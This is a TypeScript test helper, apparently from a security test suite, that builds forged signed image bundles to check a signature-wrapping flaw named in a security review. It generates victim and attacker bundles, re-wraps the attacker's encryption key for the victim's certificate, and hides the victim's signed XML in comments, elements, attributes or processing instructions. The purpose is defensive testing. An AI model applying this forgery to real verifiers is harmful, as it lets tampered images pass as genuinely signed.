// Signature wrapping (security review finding 1), built the way an attacker builds it: a bundle the victim
// genuinely signed, a second bundle of the attacker's own image (made with the real `bundlefarm bundle`),
// its AES key and IV re-wrapped for the victim's *public* certificate, and manifests that carry the
// victim's signed text where a plain string search finds it first but an XML reader skips it, followed
// by the attacker's own <machine_configuration> and <image>, then the victim's <signature>.
import assert from 'node:assert/strict';
import { copyFile, mkdir, readFile, writeFile } from 'node:fs/promises';
import { join } from 'node:path';
import {
  generateSelfSignedIdentity,
  parseManifest,
  serializeImage,
  serializeMachineConfiguration,
  unwrapWithKey,
  wrapForKey,
  type GeneratedIdentity,
} from '@bundlefarm/format';
import { bundlefarm } from './cli.js';
import { testIdentity, writeIdentity } from './identity.js';

export const WRAPPINGS = {
  comment: (s: string) => `<!--${s}-->`,
  element: (s: string) => `<x>${s}</x>`,
  attribute: (s: string) => `<x a="${s}"/>`,
  pi: (s: string) => `<?x ${s}?>`,
} as const;
export type Wrapping = keyof typeof WRAPPINGS;

export interface WrappingAttack {
  /** The victim's key pair (PEM files) and their genuine bundle. */
  victim: { key: string; cert: string; manifest: string; xml: string };
  /** The attacker's bundle with key/IV re-wrapped for the victim and the victim's signature pasted in. */
  attacker: { manifest: string; imageContent: Buffer };
  /** One forged bundle directory per wrapping; the manifest is `NAME.manifest.xml` in it. */
  forged: Record<Wrapping, string>;
  name: string;
}

let attackerId: GeneratedIdentity | undefined;

/** `sample.img` of the victim and of the attacker, bundled with the CLI into `dir/victim` and `dir/attacker`. */
export async function buildWrappingAttack(dir: string, name = 'sample.img'): Promise<WrappingAttack> {
  const victimKeys = await writeIdentity(await mkdirp(join(dir, 'victim-keys')), testIdentity());
  attackerId ??= generateSelfSignedIdentity({ commonName: 'attacker' });
  const attackerKeys = await writeIdentity(await mkdirp(join(dir, 'attacker-keys')), attackerId);

  const bundle = async (who: string, content: Buffer, keys: { key: string; cert: string }): Promise<string> => {
    const src = await mkdirp(join(dir, `${who}-src`));
    await writeFile(join(src, name), content);
    const out = join(dir, who);
    const r = await bundlefarm(['bundle', '-i', join(src, name), '-c', keys.cert, '-k', keys.key, '-u', '1234-5678-9012', '-r', 'x86_64', '-d', out]);
    assert.equal(r.code, 0, r.stderr);
    return join(out, `${name}.manifest.xml`);
  };
  const victimManifest = await bundle('victim', Buffer.from('GOOD IMAGE CONTENT\n'.repeat(1000)), victimKeys);
  const evil = Buffer.from('EVIL IMAGE CONTENT\n'.repeat(1000));
  const attackerOwn = await bundle('attacker', evil, attackerKeys);

  const victimXml = await readFile(victimManifest, 'utf8');
  const victim = parseManifest(victimXml).manifest;
  const signedStart = victimXml.indexOf('<machine_configuration>');
  const signedEnd = victimXml.indexOf('</image>') + '</image>'.length;
  const victimSigned = victimXml.slice(signedStart, signedEnd);
  const head = victimXml.slice(0, signedStart);

  // The attacker's own sections, the AES key and IV re-wrapped for the victim's public certificate.
  const own = parseManifest(await readFile(attackerOwn)).manifest;
  const victimCert = testIdentity().certificate.publicKey;
  own.image.userEncryptedKey = wrapForKey(unwrapWithKey(own.image.userEncryptedKey, attackerId.privateKey, 'key'), victimCert);
  own.image.userEncryptedIv = wrapForKey(unwrapWithKey(own.image.userEncryptedIv, attackerId.privateKey, 'IV'), victimCert);
  const attackerSections = serializeMachineConfiguration(own.machineConfiguration!) + serializeImage(own.image);
  const tail = `<signature>${victim.signature!}</signature></manifest>`;

  const place = async (sub: string, xml: string): Promise<string> => {
    const d = await mkdirp(join(dir, sub));
    for (const p of own.image.parts) await copyFile(join(dir, 'attacker', p.filename), join(d, p.filename));
    const manifest = join(d, `${name}.manifest.xml`);
    await writeFile(manifest, xml);
    return manifest;
  };
  const attackerManifest = await place('evilbundle', head + attackerSections + tail);
  const forged = {} as Record<Wrapping, string>;
  for (const [kind, wrap] of Object.entries(WRAPPINGS) as Array<[Wrapping, (s: string) => string]>) {
    forged[kind] = await place(`forged-${kind}`, head + wrap(victimSigned) + attackerSections + tail);
  }
  return {
    victim: { ...victimKeys, manifest: victimManifest, xml: victimXml },
    attacker: { manifest: attackerManifest, imageContent: evil },
    forged,
    name,
  };
}

async function mkdirp(d: string): Promise<string> {
  await mkdir(d, { recursive: true });
  return d;
}
